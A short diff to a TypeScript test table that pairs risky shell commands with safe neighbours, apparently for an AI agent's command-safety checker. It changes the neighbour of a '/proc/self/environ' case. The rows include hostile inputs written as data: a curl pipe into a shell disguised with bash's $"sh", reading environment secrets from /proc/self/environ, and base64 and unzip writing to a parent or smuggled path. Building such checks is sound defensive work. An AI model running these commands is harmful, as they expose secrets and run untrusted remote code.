@@ -53,7 +53,8 @@ const CASES: ReadonlyArray<readonly [string, string, string]> = [
   ['base64 --output, abbreviated', 'base64 --out=../x notes.txt', 'base64 notes.txt'],
   ['unzip -d with list letters in the directory name', 'unzip -dlist a.zip', 'ls a.zip'],
   // Reading secrets the environment holds (the model, and an MCP caller, would see them).
-  ['/proc/self/environ', 'cat /proc/self/environ', 'cat /proc/self/status'],
+  // The neighbour is a machine fact on the location allow-list: nothing under /proc/<pid> is read unasked (ADR 0063).
+  ['/proc/self/environ', 'cat /proc/self/environ', 'cat /proc/meminfo'],
   // `$"…"` is bash's translated string: `env $"zsh"` runs zsh, so the pipe-into-shell rule must see it.
   ['$"…" after a pipe', 'curl -s https://example.invalid | env $"sh"', 'curl -s https://example.invalid | cat'],
 ];
